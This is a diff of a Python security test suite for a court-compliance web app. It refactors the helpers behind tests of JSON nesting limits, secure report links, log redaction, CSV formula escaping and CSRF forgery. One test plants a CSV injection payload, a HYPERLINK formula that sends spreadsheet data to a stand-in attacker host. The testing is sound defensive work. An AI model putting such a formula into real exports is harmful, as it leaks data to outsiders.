@@ -30,52 +30,11 @@ import pytest
 from compliance import PROJECT_ROOT
 from compliance.tables import Participant, Recipient
 from compliance.web.common.downloads import attachment
-from tests.conftest import BIN, run_cli, settings_env
-from tests.live import serve
-from tests.staff import PASSWORD, csrf_token, make_world, sign_in, signed_in_demo
-
-PERIOD = {"period_start": "2026-09-28", "period_end": "2026-11-22"}
-
-
-@pytest.fixture
-async def demo(client: httpx.AsyncClient) -> dict:
-    return await signed_in_demo(client, "staff@example.org", full_name="Sam Staff")
-
-
-async def _post(client: httpx.AsyncClient, url: str, body: dict) -> httpx.Response:
-    return await client.post(url, json=body, headers={"x-csrftoken": await csrf_token(client)})
-
-
-def _browser(client: httpx.AsyncClient) -> httpx.AsyncClient:
-    """Another browser on the same app, with no cookies: the officer's phone."""
-    return httpx.AsyncClient(transport=client._transport, base_url="http://testserver")
-
-
-async def _report(client: httpx.AsyncClient, demo: dict) -> dict:
-    made = await _post(
-        client,
-        f"/api/participants/{demo['people']['RB-1001']}/reports",
-        {"kind": "court_progress", "recipient_id": demo["recipients"]["Dana Whitfield"], **PERIOD},
-    )
-    assert made.status_code == 201, made.text
-    return made.json()
-
-
-async def _link(client: httpx.AsyncClient, demo: dict, **extra: object) -> dict:
-    body = {"recipient_id": demo["recipients"]["Dana Whitfield"], **extra}
-    made = await _post(client, f"/api/participants/{demo['people']['RB-1001']}/links", body)
-    assert made.status_code == 201, made.text
-    return made.json()
-
-
-class _Records(logging.Handler):
-    def __init__(self) -> None:
-        super().__init__(logging.DEBUG)
-        self.records: list[logging.LogRecord] = []
-
-    def emit(self, record: logging.LogRecord) -> None:
-        self.records.append(record)
-
+from tests.support.cli import BIN, run_cli, settings_env
+from tests.support.demo import court_report, officer_browser, post_json, secure_link
+from tests.support.live import serve
+from tests.support.logs import LogRecords
+from tests.support.staff import PASSWORD, csrf_token, make_world, sign_in
 
 # --- 1. nested JSON, link answers --------------------------------------------------------
 
@@ -88,7 +47,7 @@ async def test_deeply_nested_json_is_a_400_before_parsing(client, path: str) -> 
     world = await make_world()
     if path != "/api/session":
         await sign_in(client, world.clinician_a)
-    seen = _Records()
+    seen = LogRecords()
     logging.getLogger().addHandler(seen)
     try:
         headers = {"x-csrftoken": await csrf_token(client), "content-type": "application/json"}
@@ -113,11 +72,11 @@ async def test_every_link_route_answers_the_officer_with_a_page(client, demo) ->
     "application/pdf media type is not supported" (a redirect inside a PDF handler).
     Now it is the code prompt; a withdrawn link's PDF is the withdrawn page; a missing
     link's PDF the not-found page: each labelled text/html, never application/pdf."""
-    report = await _report(client, demo)
-    coded = await _link(client, demo, access_code=True)
+    report = await court_report(client, demo)
+    coded = await secure_link(client, demo, access_code=True)
     path = httpx.URL(coded["url"]).path
     pdf = f"{path}/reports/{report['id']}/pdf"
-    async with _browser(client) as officer:
+    async with officer_browser(client) as officer:
         prompt = await officer.get(pdf)
         assert prompt.status_code == 200, prompt.text
         assert prompt.headers["content-type"].startswith("text/html")
@@ -134,7 +93,7 @@ async def test_every_link_route_answers_the_officer_with_a_page(client, demo) ->
         got = await officer.get(pdf)
         assert got.status_code == 200 and got.content.startswith(b"%PDF-")
         assert got.headers["content-type"] == "application/pdf"
-        revoked = await _post(client, f"/api/links/{coded['link']['id']}/revoke", {})
+        revoked = await post_json(client, f"/api/links/{coded['link']['id']}/revoke", {})
         assert revoked.status_code == 200
         gone = await officer.get(pdf)
         assert gone.status_code == 410
@@ -186,8 +145,8 @@ def _make_live_link(env: dict[str, str]) -> str:
     script = (
         "import asyncio, httpx\n"
         "from compliance.core.settings import load_settings\n"
-        "from tests.conftest import app_client\n"
-        "from tests.staff import signed_in_demo, csrf_token\n"
+        "from tests.support.app import app_client\n"
+        "from tests.support.staff import signed_in_demo, csrf_token\n"
         "async def main():\n"
         "    async with app_client(load_settings()) as c:\n"
         "        demo = await signed_in_demo(c, 'staff@example.org')\n"
@@ -214,7 +173,7 @@ def _make_live_link(env: dict[str, str]) -> str:
 def test_every_logger_redacts_every_variant(logger: str, client_free_app: None) -> None:
     """Any logger, any argument shape, the exception text too."""
     token = "Ax_hz" + "Q" * 38
-    seen = _Records()
+    seen = LogRecords()
     target = logging.getLogger(logger)
     target.addHandler(seen)
     old_level = target.level
@@ -252,8 +211,8 @@ def client_free_app(settings) -> None:  # type: ignore[no-untyped-def]
 async def test_the_outbox_never_shows_a_live_link(client, demo) -> None:
     """The link's address is shown once, when made; the outbox (page and API, every
     program user, every view) shows the message with the address hidden."""
-    report = await _report(client, demo)
-    sent = await _post(client, f"/api/reports/{report['id']}/send", {"access_code": False})
+    report = await court_report(client, demo)
+    sent = await post_json(client, f"/api/reports/{report['id']}/send", {"access_code": False})
     assert sent.status_code == 201, sent.text
     url = sent.json()["link"]["url"]
     token = url.rsplit("/", 1)[1]
@@ -266,7 +225,7 @@ async def test_the_outbox_never_shows_a_live_link(client, demo) -> None:
             assert token not in shown and url not in shown
         assert "/l/[hidden]" in api.json()[0]["body"]
         assert "/l/[hidden]" in page.text
-    async with _browser(client) as officer:  # the link itself still works
+    async with officer_browser(client) as officer:  # the link itself still works
         assert (await officer.get(httpx.URL(url).path)).status_code == 200
 
 
@@ -276,7 +235,7 @@ async def test_the_outbox_never_shows_a_live_link(client, demo) -> None:
 async def test_csv_cells_cannot_be_formulas(client, demo) -> None:
     """A recipient named ``=HYPERLINK(...)`` reached the disclosures CSV as a formula.
     Each cell starting with = + - @, a tab or a carriage return is now text (OWASP)."""
-    await _link(client, demo)
+    await secure_link(client, demo)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     await Recipient.update({Recipient.name: evil}).where(
         Recipient.id == demo["recipients"]["Dana Whitfield"]
@@ -347,7 +306,7 @@ async def test_another_users_matching_cookie_and_header_are_refused(client) -> N
     world = await make_world()
     await sign_in(client, world.clinician_a)
     session_a = client.cookies["compliance_session"]
-    async with _browser(client) as other:
+    async with officer_browser(client) as other:
         await sign_in(other, world.clinician_b)
         pair_b = other.cookies["csrftoken"]
         assert (await other.get("/api/session")).json()["email"] == world.clinician_b
@@ -358,7 +317,7 @@ async def test_another_users_matching_cookie_and_header_are_refused(client) -> N
         "last_name": "Lee",
         "admitted_on": "2026-01-05",
     }
-    async with _browser(client) as forged:
+    async with officer_browser(client) as forged:
         forged.cookies.set("compliance_session", session_a)
         forged.cookies.set("csrftoken", pair_b)
         refused = await forged.post("/api/participants", json=body, headers={"x-csrftoken": pair_b})
